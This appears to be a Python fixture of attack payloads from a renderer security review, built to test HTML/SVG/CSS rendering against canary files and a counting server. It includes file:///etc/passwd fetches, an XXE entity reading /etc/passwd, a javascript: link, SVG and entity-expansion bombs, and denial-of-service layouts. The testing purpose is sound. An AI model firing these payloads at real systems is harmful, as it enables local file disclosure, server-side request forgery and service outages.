"""The attacks of the security review, section 4. `URL` is a counting web server, `FILE` a folder of canaries."""

CANARY = "CANARY-7f3a91"
# a picture that a vulnerable renderer would draw as text
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="40"><text y="20">{CANARY}</text></svg>'
CSS = f'body::after {{ content: "{CANARY}" }}'
_NESTED = (
    "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'%3E"
    "%3Cimage x:href='URL/n.svg' width='9' height='9'/%3E%3C/svg%3E"
)

FETCHES = (
    '<img src="URL/a.svg">',
    '<img src="FILE/c.svg">',
    '<img src="FiLe:FILEPATH/c.svg">',
    '<img src="file://localhostFILEPATH/c.svg">',
    '<img src="FILEPATH/c.svg">',
    '<link rel="stylesheet" href="FILE/c.css">',
    '<link rel="stylesheet" href="URL/a.css">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<link rel="attachment" href="FILE/c.txt">',
    '<link rel="attachment" href="URL/a.txt">',
    '<a rel="attachment" href="FILE/c.txt">x</a>',
    '<a rel="attachment" href="URL/a.txt">x</a>',
    '<style>@import "FILE/c.css";</style>',
    "<style>@import url(URL/a.css);</style>",
    '<style>body{background:url("URL/a.svg")}</style>',
    '<style>body{background:url("FILE/c.svg")}</style>',
    '<ul style="list-style-image:url(FILE/c.svg)"><li>x</ul>',
    '<p style="content:url(FILE/c.svg)">x</p><style>p::before{content:url(URL/a.svg)}</style>',
    "<style>@font-face{font-family:x;src:url(URL/a.ttf)} p{font-family:x}</style><p>x",
    "<style>@font-face{font-family:x;src:url(FILE/c.txt)} p{font-family:x}</style><p>x",
    '<div style="border:9px solid;border-image:url(URL/a.svg) 1">x</div>',
    '<object data="FILE/c.svg" type="image/svg+xml"></object>',
    '<embed src="URL/a.svg">',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="FILE/c.svg" width="99" height="99"/></svg>',
    f'<img src="{_NESTED}">',
    '<base href="FILE/"><img src="c.svg">',
    '<img src="URL/redirect-to-http">',
    '<img src="URL/redirect-to-file">',
    '<iframe src="URL/a.html"></iframe>',
    '<video poster="URL/a.svg" src="URL/a.mp4"></video>',
    '<img srcset="URL/a.svg 1x, URL/b.svg 2x">',
    '<meta http-equiv="refresh" content="0;url=URL/a">',
    '<?xml-stylesheet href="URL/a.css"?><svg xmlns="http://www.w3.org/2000/svg"><use href="URL/a.svg#x"/></svg>',
    '<a href="FILE/c.txt">local link</a><a href="javascript:alert(1)">script</a>',
)

_SVG_BOMB = (
    '<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a0"><rect width="1" height="1"/></g>'
    + "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 9))
    + '</defs><use href="#a8"/></svg>'
)
_ENTITIES = '<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)  # fmt: skip
_XXE = '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
EXPENSIVE = (
    "<table>" + "<tr><td>a<td>b</tr>" * 2_000 + "</table>",
    "<table>" + "<tr><td>a<td>b</tr>" * 20_000 + "</table>",
    "<table>" + "<tr><td>a<td>b</tr>" * 200_000 + "</table>",
    "<div>" * 1_000 + "x",
    "<div>" * 100_000 + "x",
    "<div style='display:flex'>" * 14 + "x",
    "<div style='display:grid'>" * 14 + "x",
    "<p>" + "word " * 200_000,
    "<p>" + "w" * 1_000_000,
    "<style>@page{size:1px 1px}</style><p>many words on very small pages",
    "<p style='font-size:999999999pt'>x",
    "<p style='width:9e99px;height:9e99px'>x",
    "<p style='margin-top:9e9px'>x<p style='page-break-before:always'>y" * 2_000,
    _SVG_BOMB,
    _ENTITIES + "]><svg><text>&j;</text></svg>",
    _XXE,
    "<div style='display:grid;grid-template-columns:repeat(60,1fr)'>" + "<i>x</i>" * 3_000 + "</div>",
    "<style>"
    + "".join(f"p:nth-child({n}n+1)>b~i+u:not(.x{n}){{color:red}}" for n in range(2_000))
    + "</style>"
    + "<p><b><i><u>x" * 50,
    "<div style='columns:2'>" * 12 + "word " * 500,
    "<style>p::before{counter-increment:a 2147483647;content:counter(a,upper-roman)}</style>" + "<p>x" * 200,
    "<p style='" + "background:linear-gradient(red,blue)," * 2_000 + "red'>x",
    "<img src='data:image/svg+xml," + "%3Csvg%3E" * 20_000 + "'>",
    "<img src='data:image/png;base64," + "A" * 1_990_000 + "'>",
    "<style>" + ":is(" * 400 + "a" + ")" * 400 + "{color:red}</style><p>x",
)
